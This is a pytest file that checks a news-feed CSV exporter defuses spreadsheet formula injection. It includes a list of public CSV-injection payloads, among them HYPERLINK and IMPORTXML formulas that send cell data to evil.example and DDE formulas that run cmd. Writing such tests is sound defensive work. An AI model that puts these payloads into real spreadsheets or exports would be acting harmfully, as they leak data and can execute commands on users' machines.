"""CSV export against spreadsheet formula injection (OWASP "CSV injection"): a cell from
feed text that starts with = + - @ tab or CR is written with a leading ', numbers stay
numbers, and the values come back unchanged with neutralize_formulas=False."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from factories import make_item

from newswire_consumers.store.export import neutralized, write_csv
from newswire_consumers.store.sqlite_store import SqliteStore
from newswire_schemas import Author, Content

# Payloads from public CSV-injection lists (OWASP, PayloadsAllTheThings), as feed text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "@import",
]
LEADING = ("=", "+", "-", "@", "\t", "\r")


def rows(neutralize: bool) -> list[dict[str, str]]:
    items = [
        make_item(
            i,
            title=payload,
            feed_title=payload,
            categories=(payload,),
            authors=(Author(name=payload),),
            content=Content(html="", text=payload),
        )
        for i, payload in enumerate(FORMULAS)
    ]
    out = io.StringIO()
    assert write_csv(items, out, neutralize_formulas=neutralize) == len(FORMULAS)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_no_exported_cell_starts_a_formula() -> None:
    cells = [v for row in rows(neutralize=True) for v in row.values()]
    assert cells and not [c for c in cells if c.startswith(LEADING)]
    titles = [row["title"] for row in rows(neutralize=True)]
    assert titles == ["'" + p for p in FORMULAS]  # shown as written, with the quote


def test_the_flag_writes_values_as_they_are() -> None:
    assert [row["title"] for row in rows(neutralize=False)] == FORMULAS


@pytest.mark.parametrize("number", ["-3", "+4", "-0.5", "1e-3", "12"])
def test_numbers_stay_numbers(number: str) -> None:
    assert neutralized(number) == number


def test_export_cli_neutralizes_by_default_and_keep_formulas_turns_it_off(tmp_path: Path) -> None:
    with SqliteStore(tmp_path / "store.db") as store:
        store.upsert_many([make_item(1, title=FORMULAS[0])])
    env = {
        **os.environ,
        "NEWSWIRE_STORE_URL": f"sqlite:///{tmp_path / 'store.db'}",
        "NEWSWIRE_CONFIG": str(tmp_path / "absent.toml"),
    }

    def titles(*args: str) -> list[str]:
        done = subprocess.run(
            [sys.executable, "-m", "newswire.app.cli", "export", "--format", "csv", *args],
            env=env, capture_output=True, text=True, timeout=60, check=True,
        )  # fmt: skip
        return [row["title"] for row in csv.DictReader(io.StringIO(done.stdout))]

    assert titles() == ["'" + FORMULAS[0]]
    assert titles("--keep-formulas") == [FORMULAS[0]]
